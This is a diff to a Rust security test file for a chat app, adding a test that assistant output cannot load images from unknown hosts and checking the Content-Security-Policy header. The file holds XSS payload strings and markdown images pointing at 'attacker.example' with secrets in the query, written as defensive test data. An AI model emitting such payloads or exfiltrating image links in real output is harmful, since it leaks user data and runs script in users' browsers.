@@ -1,6 +1,6 @@
-//! Security: model output is inert, hostile markdown does not stall the server, cross-site
-//! posts are refused, headers are set, another user's ids find nothing, and bad input gets
-//! clear errors.
+//! Security: model output is inert and loads no remote images, hostile markdown does not stall
+//! the server, cross-site posts are refused, headers are set, another user's ids find nothing,
+//! and bad input gets clear errors.
 
 use std::sync::Arc;
 use std::sync::atomic::{AtomicBool, Ordering};
@@ -11,7 +11,7 @@ use loquat_core::id::UserId;
 use loquat_core::service::SendMessage;
 use loquat_test_support::fake_openai::Reply;
 
-use crate::helpers::TestApp;
+use crate::helpers::{TestApp, TestOptions};
 
 const PAYLOADS: &str = "<script>alert('x')</script>\n\n<img src=x onerror=alert(1)>\n\n\
 [click](javascript:alert(1)) [click2](JAVASCRIPT:alert(2)) [data](data:text/html;base64,PHNjcmlwdD4=)\n\n\
@@ -46,6 +46,45 @@ async fn model_output_cannot_run_script() {
     assert_inert(messages);
     assert!(messages.contains("&lt;script&gt;alert"), "the payload is shown as text");
     assert!(!messages.contains("<b>user html</b>"), "user HTML is not passed through either");
+    app.cleanup().await;
+}
+
+/// Real `<img>` tags whose `src` is on `host` (escaped text does not count).
+fn images_from(html: &str, host: &str) -> usize {
+    html.split('<')
+        .skip(1)
+        .filter(|tag| tag.starts_with("img ") && tag.split('>').next().unwrap_or_default().contains(host))
+        .count()
+}
+
+#[tokio::test]
+async fn model_output_cannot_load_remote_images() {
+    let app = TestApp::spawn_with(TestOptions {
+        configure: |config| config.image_hosts = "img.example.com".into(),
+        ..TestOptions::default()
+    })
+    .await;
+    let assistant = app.default_assistant().await;
+    let answer = "Look: ![x](https://attacker.example/?q=secret) and ![chart](https://img.example.com/c.png)";
+    app.fake.push_reply(Reply::text(answer));
+    let sent = app.send(assistant, None, "show me ![me](https://attacker.example/?q=mine)").await;
+    let events = app.events(sent.answer).await;
+    assert_eq!(events.last().map(|(name, _)| name.as_str()), Some("done"));
+    for (_, data) in &events {
+        let html = data["html"].as_str().unwrap_or_default();
+        assert_eq!(images_from(html, "attacker.example"), 0, "{html}");
+    }
+    let (_, page) = app.page(&format!("/chat/{assistant}/{}", sent.topic)).await;
+    let messages = page.split("id=\"messages\"").nth(1).expect("message list");
+    assert_eq!(images_from(messages, "attacker.example"), 0, "no image from an unknown host loads");
+    assert!(messages.contains("class=\"image-link\" href=\"https://attacker.example/?q=secret\""), "shown as a link");
+    assert!(messages.contains(">x</a>"), "with its alt text");
+    assert_eq!(images_from(messages, "https://img.example.com/c.png"), 1, "an allowed host's image loads");
+
+    let response = app.client.get(app.url(&format!("/chat/{assistant}"))).send().await.expect("page");
+    let csp = response.headers()["content-security-policy"].to_str().expect("ascii").to_owned();
+    assert!(csp.contains("img-src 'self' data: https://img.example.com;"), "{csp}");
+    assert!(!csp.split(';').any(|directive| directive.split_whitespace().any(|source| source == "https:")), "{csp}");
     app.cleanup().await;
 }
 
